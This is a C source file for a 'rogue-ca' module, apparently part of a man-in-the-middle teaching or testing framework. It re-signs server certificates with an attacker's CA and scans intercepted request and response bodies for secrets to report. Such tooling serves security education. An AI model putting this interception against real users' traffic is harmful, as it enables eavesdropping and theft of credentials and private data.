/* SPDX-License-Identifier: MIT
 *
 * rogue-ca: a faithful copy of each certificate, signed by the attacker's own
 * CA. Against a client that does not know that CA it fails like any other
 * forgery. Where the CA was installed, by whatever means, nothing is wrong with
 * the copy, and all that the client sends and gets can be read. */
#include "attacks/attack.h"
#include "attacks/secrets.h"
#include "certs/forge.h"

static enum hook_act on_server_cert(void *config, struct flow *flow, X509 *real,
                                    struct forge_plan *plan)
{
    (void)config, (void)flow, (void)real;
    plan->forgery = NULL; /* no flaw, but for who signed it */
    return HOOK_CHANGED;
}

static void on_secret(void *context, const struct secret *secret)
{
    secret_report(secret, context);
}

static enum hook_act on_request(void *config, struct flow *flow,
                                struct message *request)
{
    struct event_where where = flow_where(flow, LEG_VICTIM);
    secrets_in_message(request, config, on_secret, &where);
    return HOOK_PASS;
}

static enum hook_act on_response(void *config, struct flow *flow,
                                 struct message *response)
{
    struct event_where where = flow_where(flow, LEG_SERVER);
    secrets_in_message(response, config, on_secret, &where);
    return HOOK_PASS;
}

static int start(struct attack_run *run, struct err *err)
{
    const struct forge_signers *signers = run->env.signers;
    struct secrets_look *look = arena_alloc(&run->arena, sizeof *look);
    if (!look) {
        err_set(err, "rogue-ca: out of memory");
        return -1;
    }
    if (!signers || !signers->rogue) {
        err_code(err, EXIT_USAGE,
                 "rogue-ca signs with the attacker's CA; give it with --ca "
                 "DIR");
        return -1;
    }
    if (secrets_look_parse(attack_value(run, "look"), &run->arena, look, err))
        return -1;
    run->hook.config = look;
    run->hook.wants = HOOK_WANTS_REQUEST_BODY | HOOK_WANTS_RESPONSE_BODY;
    run->hook.on_server_cert = on_server_cert;
    run->hook.on_request = on_request;
    run->hook.on_response = on_response;
    return 0;
}

static const struct attack_param params[] = {
    {"look", "TEXT", NULL, "also report these texts (| between them)", false},
    {NULL, NULL, NULL, NULL, false},
};

const struct attack attack_rogue_ca = {
    .name = "rogue-ca",
    .teaches = "Whoever gets a CA into the list of the trusted reads "
               "everything.",
    .kind = ATTACK_HOOK,
    .params = params,
    .start = start,
};
